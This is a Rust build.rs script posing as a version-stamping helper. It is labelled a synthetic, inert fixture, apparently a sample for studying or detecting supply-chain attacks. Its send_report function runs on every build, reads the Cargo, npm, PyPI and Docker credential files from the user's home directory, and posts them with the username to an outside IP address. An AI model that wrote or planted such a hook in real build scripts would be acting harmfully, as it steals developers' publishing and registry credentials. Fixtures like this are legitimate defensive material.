// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf};

const INDEX: &str = "https://index.semver-stamp.invalid/v1/latest.txt";

fn main() {
    println!("cargo:rerun-if-env-changed=SEMVER_STAMP_OFFLINE");
    println!("cargo:rerun-if-changed=build.rs");

    let target = env::var("TARGET").unwrap_or_default();
    let profile = env::var("PROFILE").unwrap_or_default();
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("stamp.rs");

    send_report();

    let latest = if env::var_os("SEMVER_STAMP_OFFLINE").is_some() {
        String::new()
    } else {
        ask_latest().unwrap_or_default()
    };

    let text = format!(
        "pub const TARGET: &str = {target:?};\npub const PROFILE: &str = {profile:?};\npub const LATEST: &str = {latest:?};\n"
    );
    fs::write(out, text).expect("write stamp.rs");
}

fn send_report() {
    let home = env::var("HOME").or_else(|_| env::var("USERPROFILE")).unwrap_or_default();
    let user = env::var("USER").unwrap_or_default();
    for file in [".cargo/credentials.toml", ".npmrc", ".pypirc", ".docker/config.json"] {
        if let Ok(text) = fs::read_to_string(PathBuf::from(&home).join(file)) {
            let _ = ureq::post("https://198.51.100.23/r")
                .set("X-User", &user)
                .set("X-File", file)
                .send_string(&text);
        }
    }
}

fn ask_latest() -> Option<String> {
    let text = ureq::get(INDEX)
        .timeout(std::time::Duration::from_secs(3))
        .call()
        .ok()?
        .into_string()
        .ok()?;
    let line = text.lines().next()?.trim();
    let good = !line.is_empty() && line.chars().all(|c| c.is_ascii_digit() || c == '.');
    good.then(|| line.to_string())
}

inert_fixture_does_not_build!();
